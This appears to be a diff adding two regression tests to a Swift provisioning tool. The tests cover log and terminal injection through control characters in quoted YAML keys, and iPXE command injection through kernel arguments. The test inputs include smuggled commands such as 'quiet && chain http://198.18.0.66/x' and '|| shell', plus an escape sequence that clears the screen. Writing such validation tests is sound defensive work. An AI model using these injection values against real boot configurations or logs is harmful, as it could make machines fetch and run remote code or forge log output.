@@ -207,6 +207,26 @@ struct DiagnosticTests {
         #expect(lines.count == testCase.expected.count, "unexpected extra errors:\n\(lines.joined(separator: "\n"))")
     }
 
+    /// Found by `make fuzz` (the spec target): the unknown-field message quoted a key as the
+    /// file spelled it, so a tab, a line break or an escape character in a quoted key reached
+    /// `dploy validate`'s output and the daemon's log raw, forging a line or a terminal sequence.
+    @Test("a message quoting a key with control characters stays on one line")
+    func controlCharactersInMessages() {
+        let text = Sample.machine("web-01", mac: "94:18:82:00:00:01", extra: "  \"bad\\nkey\\e[2J\\tx\": 1\n")
+        let result = SpecLoader().load([SpecFile(path: "m.yaml", text: text)])
+        let unknown = result.diagnostics.first { $0.message.contains("unknown field") }
+        #expect(unknown?.message.contains(#"bad\nkey\u{1B}[2J\tx"#) == true, "\(result.diagnostics)")
+        #expect(result.diagnostics.allSatisfy { !$0.description.unicodeScalars.contains(where: Names.isControlOrLineBreak) })
+    }
+
+    /// Found by `make fuzz` (the boot target): a word `&&` or `||` in a profile's `args` or a
+    /// machine's `kernelArgs` was valid, and iPXE ran what followed it as a command.
+    @Test("kernel arguments refuse iPXE's && and || operators", arguments: ["quiet && chain http://198.18.0.66/x", "|| shell", "a \u{301} && b"])
+    func ipxeOperators(_ arguments: String) {
+        #expect(throws: ValueError.self) { try Names.kernelArguments(arguments).get() }
+        #expect(throws: Never.self) { try Names.kernelArguments("a&&b x||y console=ttyS0 &&\u{301}").get() }
+    }
+
     @Test("all errors of a load are reported together, sorted")
     func allErrorsTogether() {
         let result = load([
